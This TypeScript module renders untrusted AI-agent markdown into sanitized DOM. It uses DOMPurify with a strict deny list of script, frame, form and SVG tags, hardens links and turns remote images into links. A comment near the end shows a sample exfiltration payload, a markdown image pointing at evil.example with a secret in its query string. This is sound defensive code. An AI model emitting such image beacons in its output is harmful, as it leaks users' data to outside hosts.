/**
 * Agent markdown → inert DOM, one block at a time. Agent output is untrusted (docs/architecture.md,
 * security model): `marked` (GFM) turns each block (markdown-blocks.ts) into HTML, DOMPurify parses that
 * HTML in an inert document and keeps only a strict allow-list, and the surviving nodes are
 * post-processed so that links open in a new, unrelated browsing context and remote images do not load
 * by themselves.
 *
 * Each block is sanitized on its own and the results are joined as DOM nodes, never as markup, so text
 * split across blocks (or across streamed deltas) cannot combine into anything the sanitizer did not
 * see. The result is a DocumentFragment to render as a Lit child value; raw agent text never reaches
 * `innerHTML` or `unsafeHTML`.
 */
import { Marked, type MarkedOptions } from 'marked';
import DOMPurify, { type Config } from 'dompurify';
import type { MarkdownBlock } from './markdown-blocks.ts';

const marked = new Marked({ gfm: true, async: false });
marked.use({
  renderer: {
    // why: GFM task lists render as <input type="checkbox">, and the sanitizer drops every form control.
    checkbox({ checked }) {
      return checked ? '☑ ' : '☐ ';
    },
  },
});

// why: a private instance, so our hooks and config never leak into other DOMPurify users on the page.
const purifier = DOMPurify(window);

/** Strict profile: plain HTML only (no SVG/MathML), no forms, no embedding, no styling, no handlers. */
const SANITIZE_CONFIG = {
  USE_PROFILES: { html: true },
  FORBID_TAGS: [
    'script', 'style', 'link', 'meta', 'base', 'iframe', 'frame', 'frameset', 'object', 'embed',
    'form', 'input', 'button', 'select', 'option', 'textarea', 'template', 'dialog', 'slot',
    'svg', 'math', 'audio', 'video', 'source', 'track', 'picture', 'area', 'map',
  ],
  FORBID_ATTR: [
    'style', 'role', 'srcset', 'ping', 'target', 'formaction', 'action', 'background', 'poster',
    'autofocus', 'tabindex', 'contenteditable', 'accesskey', 'draggable',
  ],
  // http(s) and mailto links, plus scheme-less relative ones; DOMPurify still lets data: through on
  // <img src>, which is inert (an image cannot run script).
  ALLOWED_URI_REGEXP: /^(?:(?:https?|mailto):|[^a-z]|[a-z+.-]+(?:[^a-z+.\-:]|$))/i,
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  SANITIZE_NAMED_PROPS: true,
  RETURN_DOM_FRAGMENT: true,
} satisfies Config & { RETURN_DOM_FRAGMENT: true };
// why set once: parsing the config is nearly half the cost of sanitizing a small block, and blocks are
// sanitized one by one (every frame while a message streams). Once set, DOMPurify ignores the config
// passed to `sanitize`, which is this same object, kept there for the return type.
purifier.setConfig(SANITIZE_CONFIG);

/** The options blocks are lexed with (markdown-blocks.ts), so lexing and rendering agree. */
export const markdownOptions: MarkedOptions = marked.defaults;

const CACHE_LIMIT = 1000;
/** Sanitized templates by block key, oldest first (a Map keeps insertion order). */
const cache = new Map<string, DocumentFragment>();

export interface RenderMarkdownOptions {
  /** Keep the result for later calls with the same block. Off for text that is still streaming. */
  cache?: boolean;
}

/**
 * Renders one untrusted markdown block to a fresh, sanitized fragment owned by the caller (safe to
 * insert; each call returns its own copy). Contract: no script, event handler, style, form control,
 * frame, or non-http(s)/mailto link survives; every `<a>` has `target="_blank" rel="noopener noreferrer"`.
 */
export function renderMarkdownBlock(block: MarkdownBlock, options: RenderMarkdownOptions = {}): DocumentFragment {
  const hit = cache.get(block.key);
  if (hit !== undefined) {
    cache.delete(block.key);
    cache.set(block.key, hit);
    return document.importNode(hit, true);
  }
  // why the copy: marked's parser takes a mutable array; the block's tokens stay as the splitter made them.
  const fragment = sanitize(marked.parser([...block.tokens]));
  if (options.cache !== false) {
    cache.set(block.key, fragment);
    if (cache.size > CACHE_LIMIT) cache.delete(cache.keys().next().value ?? '');
  }
  return document.importNode(fragment, true);
}

function sanitize(dirtyHtml: string): DocumentFragment {
  const fragment = purifier.sanitize(dirtyHtml, SANITIZE_CONFIG);
  for (const a of fragment.querySelectorAll('a')) {
    a.setAttribute('target', '_blank');
    a.setAttribute('rel', 'noopener noreferrer');
  }
  for (const img of fragment.querySelectorAll('img')) {
    const src = img.getAttribute('src') ?? '';
    if (!/^data:image\//i.test(src)) img.replaceWith(imageLink(img, src));
  }
  return fragment;
}

/**
 * A remote image becomes a link to it: loading it by itself would let hostile output beacon data out
 * (`![](https://evil.example/?secret=…)`).
 */
function imageLink(img: HTMLImageElement, src: string): Node {
  const label = `Image: ${img.getAttribute('alt')?.trim() || src || 'no address'}`;
  if (src === '') return img.ownerDocument.createTextNode(`[${label}]`);
  const a = img.ownerDocument.createElement('a');
  a.href = src;
  a.target = '_blank';
  a.rel = 'noopener noreferrer';
  a.textContent = label;
  return a;
}
